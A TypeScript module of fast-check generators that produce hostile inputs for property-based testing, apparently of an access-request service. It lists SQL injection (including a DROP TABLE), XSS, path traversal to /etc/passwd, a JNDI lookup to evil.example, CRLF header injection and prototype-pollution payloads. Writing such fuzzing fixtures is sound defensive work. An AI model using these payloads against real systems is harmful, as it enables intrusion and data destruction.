/**
 * fast-check arbitraries for hostile input: malformed, oversized, wrongly typed and injection-shaped values, and
 * near-misses of the real thing (ids and tokens of the right shape that are not ours, truncated, padded).
 */
import fc from "fast-check";

export const injections = [
  "' OR '1'='1",
  "1; DROP TABLE access_requests; --",
  "\"; SELECT pg_sleep(10); --",
  "<script>alert(document.cookie)</script>",
  "<img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fetc%2fpasswd",
  "%00",
  "\u0000",
  "\u202Egnp.exe",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "$where",
  "{\"$gt\":\"\"}",
  "//evil.example",
  "/\\evil.example",
  "https://evil.example/",
  "\r\nSet-Cookie: pwned=1",
  "aks-prod\u0000",
  " aks-prod ",
  "AKS-PROD",
  "😀".repeat(50),
  "a".repeat(100_000),
];

const uuidLike = fc.uuid();
const tokenLike = fc.stringMatching(/^[A-Za-z0-9_-]{43}$/);
const nearTokens = fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{42}$/), fc.stringMatching(/^[A-Za-z0-9_-]{44}$/), fc.stringMatching(/^[A-Za-z0-9+/=]{43}$/));

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...injections) },
  { weight: 2, arbitrary: fc.string({ maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 501, maxLength: 20_000 }) },
  { weight: 1, arbitrary: uuidLike },
  { weight: 1, arbitrary: tokenLike },
  { weight: 1, arbitrary: nearTokens },
  { weight: 1, arbitrary: fc.constantFrom("", " ", "\t\n", "null", "undefined", "NaN", "-1", "1e308", "0x10", "true") },
);

/** Anything JSON or a form could carry, and a few things neither could. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    { weight: 4, arbitrary: hostileString },
    { weight: 1, arbitrary: fc.integer() },
    { weight: 1, arbitrary: fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, -0, 1e308, -5, 5.5, 2 ** 53 + 1) },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 1, arbitrary: fc.constantFrom(null, undefined) },
    { weight: 1, arbitrary: fc.bigInt() },
    { weight: 1, arbitrary: fc.date({ noInvalidDate: false }) },
    { weight: 1, arbitrary: fc.array(tie("value"), { maxLength: 4 }) },
    { weight: 1, arbitrary: fc.dictionary(fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom("__proto__", "constructor", "toString")), tie("value"), { maxKeys: 4 }) },
  ),
})).value;

/** An object shaped like `keys`, each field hostile or absent, plus stray keys. */
export function hostileRecord(keys: readonly string[], valid: Record<string, fc.Arbitrary<unknown>> = {}): fc.Arbitrary<Record<string, unknown>> {
  const field = (k: string) => (valid[k] ? fc.oneof(hostileValue, valid[k]) : hostileValue);
  const entries = Object.fromEntries(keys.map((k) => [k, field(k)]));
  return fc.record(entries, { requiredKeys: [] }).chain((r) =>
    fc.dictionary(fc.string({ maxLength: 12 }), hostileValue, { maxKeys: 2 }).map((extra) => ({ ...extra, ...r })),
  );
}
